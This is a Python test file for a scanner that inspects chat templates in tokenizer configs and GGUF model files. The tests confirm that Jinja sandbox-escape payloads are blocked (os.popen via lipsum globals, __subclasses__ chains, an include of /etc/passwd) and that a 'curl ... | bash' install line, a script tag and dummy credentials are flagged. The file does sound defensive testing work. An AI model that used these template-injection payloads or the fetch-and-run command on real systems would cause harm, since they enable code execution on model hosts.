"""Chat templates: what tokenizers really ship is clean, every known way out of a template is seen."""

from __future__ import annotations

import json
import struct
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from holdfast.scan import scan
from holdfast.scan.formats.templates import read_template
from holdfast.scan.inspect import Seen

USUAL = """{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}
{%- set ns = namespace(system='') -%}
{%- for message in messages -%}
  {%- if message['role'] == 'system' -%}{%- set ns.system = message.content | trim -%}{%- continue -%}{%- endif -%}
  {%- if message.role not in ['user', 'assistant'] -%}{{ raise_exception('unknown role') }}{%- endif -%}
  {{ '<|' + message['role'] + '|>' }}{{ message['content'].split('</think>')[-1] }}{{ eos_token }}
  {%- for call in message.get('tool_calls', []) -%}
    {{ call.function.name }}({{ call.function.arguments | tojson }})
  {%- endfor -%}
{%- endfor -%}
{{ messages | map(attribute='content') | join(' ') }}
{{ messages | selectattr('role', 'equalto', 'user') | list | length }}
{{ strftime_now('%d %b %Y') }}{%- if add_generation_prompt -%}<|assistant|>{%- endif -%}"""

ESCAPES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ x['__class__'] }}",
    "{{ x['__cla' + 'ss__'] }}",
    "{{ x['__cla' ~ 'ss__'] }}",
    "{{ cycler.next.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id') }}",
    "{{ x | attr('__class__') }}",
    "{{ x | attr('for' ~ 'mat') }}",
    "{{ [x] | map(attribute='__class__') | list }}",
    "{{ [x] | map(attribute=name) | list }}",
    "{{ self._TemplateReference__context }}",
    "{{ request.application }}",
    "{{ x.gi_frame }}",
    "{% include '/etc/passwd' %}",
    "{% import 'x' as y %}",
    "{% if x.f_globals %}{% endif %}",
)


def facts(text: str) -> list[tuple[str, str]]:
    seen = Seen("json")
    read_template(text, seen)
    return [(fact.kind, str(fact.value)) for fact in seen.facts]


def test_a_usual_template_reaches_nothing() -> None:
    assert facts(USUAL) == []


def test_what_the_model_said_may_be_marked() -> None:
    assert facts("{% generation %}{{ message.content }}{% endgeneration %}") == []
    assert facts("{% generation %}{{ x.__class__ }}{% endgeneration %}") == [("template-reach", "__class__")]


def test_a_template_may_be_a_file_of_its_own(tmp_path: Path) -> None:
    file = tmp_path / "chat_template.jinja"
    file.write_text(USUAL)
    assert scan(file).verdict == "clean"
    file.write_text(USUAL + "{{ cycler.next }}")
    assert scan(file).verdict == "blocked"
    file.write_text("{{ messages")
    assert scan(file).verdict == "unknown"
    file.write_text("Say hello.\n" * 20_000 + "{{ ''.__class__.__mro__ }}")
    assert scan(file).verdict == "blocked"


@pytest.mark.parametrize(
    "text",
    [
        "{% extends 'base.html' %}{% block main %}{{ request.user }}{% endblock %}",
        "{{ config(materialized='table') }} select 1",
        "the class has __init__, written as {{ name }}",
        'f"{{{value}}}" and __slots__',
    ],
)
def test_templates_of_the_web_are_text(tmp_path: Path, text: str) -> None:
    file = tmp_path / "page.html"
    file.write_text(text)
    assert scan(file).verdict == "clean"


@pytest.mark.parametrize("text", ESCAPES)
def test_every_way_out_is_seen(text: str) -> None:
    assert {kind for kind, _ in facts(text)} == {"template-reach"}
    assert {kind for kind, _ in facts(USUAL + text)} == {"template-reach"}


@pytest.mark.parametrize("text", ["{% if %}", "{{ " + "(" * 5000, "{% for x in y %}"])
def test_what_does_not_parse_is_not_clean(text: str) -> None:
    assert [kind for kind, _ in facts(text)] == ["template-unread"]


@given(st.text(max_size=200))
def test_hostile_text_never_raises(text: str) -> None:
    facts("{{" + text + "}}{%" + text + "%}")


def test_a_tokenizers_template_is_looked_at(tmp_path: Path) -> None:
    path = tmp_path / "tokenizer_config.json"
    path.write_text(json.dumps({"a": {"chat_template": [{"name": "default", "template": ESCAPES[0]}]}}))
    assert scan(path).verdict == "blocked"
    path.write_text(json.dumps({"chat_template": USUAL}))
    assert scan(path).verdict == "clean"


def gguf(*keys: tuple[str, str], tensors: tuple[tuple[int, int, int], ...] = (), data: bytes = b"") -> bytes:
    """A GGUF file: text keys, tensors as (elements, type, offset), and what lies behind the aligned header."""

    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    head = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(keys))
    head += b"".join(text(name) + struct.pack("<I", 8) + text(value) for name, value in keys)
    for number, (elements, kind, offset) in enumerate(tensors):
        head += text(f"t{number}") + struct.pack("<IQIQ", 1, elements, kind, offset)
    return head + bytes(-len(head) % 32) + data if tensors else head


@pytest.mark.parametrize(
    ("data", "verdict"),
    [
        (gguf(("tokenizer.chat_template", USUAL)), "clean"),
        (gguf(("tokenizer.chat_template", ESCAPES[0])), "blocked"),
        (gguf(("tokenizer.chat_template.tool", ESCAPES[0])), "blocked"),
        (gguf(tensors=((8, 0, 0),), data=bytes(32)), "clean"),
        (gguf(tensors=((8, 0, 0), (32, 2, 32)), data=bytes(32 + 18)), "clean"),
        (gguf(tensors=((8, 0, 0),), data=bytes(31)), "unknown"),
        (gguf(tensors=((8, 0, 0), (8, 0, 16)), data=bytes(64)), "unknown"),
        (gguf(tensors=((8, 0, 0),), data=bytes(32) + b"cos\nsystem\n"), "unknown"),
        (gguf(tensors=((2**62, 0, 0),), data=bytes(32)), "unknown"),
        (gguf(tensors=((8, 77, 0),), data=bytes(32)), "unknown"),
        (b"GGUF" + struct.pack("<IQQ", 3, 2**62, 0), "unknown"),
        (b"GGUF" + struct.pack("<IQQ", 9, 0, 0), "unknown"),
    ],
)
def test_gguf_is_read_to_its_last_byte(tmp_path: Path, data: bytes, verdict: str) -> None:
    path = tmp_path / "model.gguf"
    path.write_bytes(data)
    report = scan(path)
    assert report.verdict == verdict
    coverage = report.coverage
    assert coverage.parsed + coverage.skipped_by_shape + coverage.unread == len(data)


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        ('{"auto_map": {"AutoModel": "them/repo--modeling.Model"}}', "remote-code"),
        ('{"url": "http://10.1.2.3/weights"}', "plain-address"),
        ('{"token": "hf_' + "a" * 34 + '"}', "secret"),
        ('{"db": "postgresql://user:hunter22@db/x"}', "secret"),
        ("to install: curl http://x.invalid/i.sh | bash\n", "script"),
        ("<script>alert(1)</script>", "script"),
    ],
)
def test_signs_ask_for_a_look(tmp_path: Path, content: str, rule: str) -> None:
    path = tmp_path / "file"
    path.write_text(content)
    report = scan(path)
    assert report.verdict == "review"
    assert rule in {hit.rule.id for hit in report.hits}


def test_a_credential_is_never_repeated(tmp_path: Path) -> None:
    path = tmp_path / "config.json"
    secret = "ghp_" + "A1" * 20
    path.write_text(json.dumps({"token": secret}))
    report = scan(path)
    assert report.verdict == "review"
    assert secret not in repr(report)
